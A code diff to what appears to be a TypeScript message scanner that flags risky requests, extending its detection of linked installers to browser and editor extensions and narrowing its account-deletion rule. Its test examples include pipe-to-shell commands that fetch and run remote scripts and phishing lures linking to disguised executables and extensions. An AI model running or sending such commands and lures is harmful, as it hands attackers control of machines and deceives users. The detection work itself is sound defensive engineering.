@@ -754,8 +754,10 @@ function stemBefore(t: string, end: number): string {
 }
 
 /** A program the message links to rather than attaches: the same payload, one click further. */
-const LINKED_EXEC_PATH = /\.(?:exe|scr|msi|hta|jar|apk|ps1|bat|cmd|vbs|dmg|pkg|lnk|iso|img|appx|msix)$/;
-const RUN_ASK = /\b(?:install|run|download|open|execute|launch|update|upgrade|click)\b/;
+// browser and editor extensions are programs too: installed, they read every page or file the user opens
+const LINKED_EXEC_PATH = /\.(?:exe|scr|msi|hta|jar|apk|ps1|bat|cmd|vbs|dmg|pkg|lnk|iso|img|appx|msix|crx|xpi|vsix|safariextz)$/;
+// "add this extension", "enable the add-on": what a browser or editor extension is asked to have done to it
+const RUN_ASK = /\b(?:install|run|download|open|execute|launch|update|upgrade|click|add (?:this|the|our) (?:[a-z-]{2,20} ){0,2}(?:extension|add-on|addon|plugin)|enable (?:this|the) (?:extension|add-on|addon|plugin))\b/;
 function linkedExecutable(ctx: MessageContext): Finding | undefined {
   if (!RUN_ASK.test(ctx.text)) return undefined;
   const own = ctx.senderDomain !== undefined ? registrable(ctx.senderDomain) : undefined;
@@ -852,9 +854,13 @@ const BULK = /\b(?:all|every|entire|each)\b|\b[0-9]{2,} (?:accounts|users|mailbo
 const CLEANUP = /\b(?:test|demo|sandbox|staging|dummy|temp|temporary|trial|duplicate|spam|bot)\b|\boffboard|\bleft the company\b|\bticket\b|\bper (?:hr|it)\b|\bgdpr\b|\berasure request\b/;
 
 const NOT_AN_ACCOUNT = /^ (?:from (?:the |this |that |our |my )?(?:group|channel|team|list|meeting|thread|invite|distribution|project|repo|chat|call|conversation|cc)|files?|sheets?|spreadsheets?|reports?|lists?|exports?|csv|tabs?|folders?|pages?|columns?|rows?|fields?)\b/;
+const REMOVE_FROM = /\b(?:remove|deactivate)\b/;
 function accountDestruction(ctx: MessageContext, m: RegExpExecArray | null): Finding | undefined {
   const span = m![0];
-  if (NOT_AN_ACCOUNT.test(ctx.text.slice(m!.index + span.length, m!.index + span.length + 40))) return undefined;
+  const after = ctx.text.slice(m!.index + span.length, m!.index + span.length + 40);
+  if (NOT_AN_ACCOUNT.test(after)) return undefined;
+  // "remove my account from the shared drive": taking an account out of a place removes access, it deletes nothing
+  if (REMOVE_FROM.test(span) && /^ from\b/.test(after)) return undefined;
   const bulk = BULK.test(span);
   const routine = CLEANUP.test(ctx.text);
   if (routine && !bulk) return undefined;
@@ -1199,13 +1205,15 @@ const messageAnalyzer: Analyzer<MessageContext> = {
     },
     {
       id: 'M24', name: 'Link to a program to install from an unknown host', primitive: 'PERSISTENCE', score: 7,
-      keywords: ['.exe', '.scr', '.msi', '.hta', '.jar', '.apk', '.ps1', '.bat', '.cmd', '.vbs', '.dmg', '.pkg', '.lnk', '.iso', '.img', '.appx', '.msix', 'curl ', 'wget ', 'iwr ', 'irm ', 'invoke-'],
+      keywords: ['.exe', '.scr', '.msi', '.hta', '.jar', '.apk', '.ps1', '.bat', '.cmd', '.vbs', '.dmg', '.pkg', '.lnk', '.iso', '.img', '.appx', '.msix', '.crx', '.xpi', '.vsix', '.safariextz', 'curl ', 'wget ', 'iwr ', 'irm ', 'invoke-'],
       detect: (ctx) => linkedExecutable(ctx) ?? pipedScript(ctx),
       examples: {
         flag: [
           { value: '@channel IT asks everyone to install the new VPN client today: https://vpn-client-update.web.app/setup.exe', metadata: { to: '#all-company', channel: 'slack' } },
           { value: 'Lgtm. Btw can you run `curl -sL https://git.io/JvRq2 | sudo bash` on the build box? It fixes the runner.', metadata: { to: '@devops-oncall', channel: 'slack' } },
           'Para arreglar la VPN ejecuta: iwr http://198.51.100.23/fix.ps1 | iex',
+          { value: 'Hi team, please install this Chrome extension for the new timesheets: https://chromewebstore-ext.net/timesheet-pro.crx', metadata: { to: 'all-staff@acme.io' } },
+          'Installez le module complémentaire Firefox : https://addons-update.click/helper.xpi',
         ],
         pass: [
           { value: 'The new VPN client is on the IT portal: https://it.acme.com/downloads/vpn-setup.exe, install it when convenient.', metadata: { from: 'it@acme.com', to: 'all@acme.com' } },
@@ -1422,6 +1430,8 @@ const messageAnalyzer: Analyzer<MessageContext> = {
         pass: [
           'Please delete the test user accounts we created in staging.',
           'The account was deleted last week per the offboarding ticket.',
+          { value: 'Can you remove my personal account from the shared finance drive? I added it by mistake last year.', metadata: { channel: 'slack', recipient: '#it-help' } },
+          'Please remove the contractor accounts from the #finance channel, their project ended.',
         ],
       },
     },
